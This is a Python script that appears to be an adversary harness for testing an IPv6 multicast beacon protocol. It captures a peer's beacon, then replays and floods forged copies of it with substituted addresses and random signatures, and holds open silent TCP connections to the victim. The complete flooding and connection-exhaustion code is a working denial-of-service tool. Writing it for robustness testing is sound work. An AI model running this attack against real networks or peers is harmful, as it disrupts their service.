"""Somebody on the link who means ill: hears one beacon, says it again as it was, and says hundreds a second that are made of it,
each from one of its own addresses and with a signature that is somebody's or nobody's; and holds connections open that say nothing.

  forger.py IFACE GROUP PORT FIRST COUNT SECONDS      addresses FIRST + 0 .. COUNT - 1, which the interface has

Prints a line when it has begun and one at the end: JSON with what it sent and opened.
"""
import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

interface, group, port, first, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), ipaddress.IPv6Address(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
index = socket.if_nametoindex(interface)
own = [first + n for n in range(count)]

ears = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
ears.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ears.bind((group, port, 0, index))
ears.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, group) + struct.pack('@I', index))
heard, sender = ears.recvfrom(2048)
victim = ipaddress.IPv6Address(sender[0].split('%')[0])

mouths = []
for address in own:
    mouth = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    mouth.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    mouth.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
    mouth.bind((str(address), 0))
    mouths.append(mouth)


def forged(address):
    """The signature is the last 65 bytes: r, s and v. A low s and any r are, about every second time, the signature of some address."""
    body = heard[:-65].replace(victim.packed, address.packed)
    return body + os.urandom(32) + b'\x10' + os.urandom(31) + heard[-1:]


silent = []
for n in range(120):
    connection = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    connection.setblocking(False)
    connection.bind((str(own[n % count]), 0))
    connection.connect_ex((str(victim), port, 0, 0))
    silent.append(connection)

print(json.dumps({'begun': True, 'victim': str(victim)}), flush=True)
end = time.monotonic() + seconds
sent = 0
while time.monotonic() < end:
    for mouth, address in zip(mouths, own):
        for datagram in (forged(address), heard, os.urandom(200)):
            try:
                mouth.sendto(datagram, (group, port, 0, index))
                sent += 1
            except BlockingIOError:
                pass
    time.sleep(0.05)
closed = sum(1 for connection in silent if select.select([connection], [], [], 0)[0])
print(json.dumps({'sent': sent, 'opened': len(silent), 'closed': closed}), flush=True)
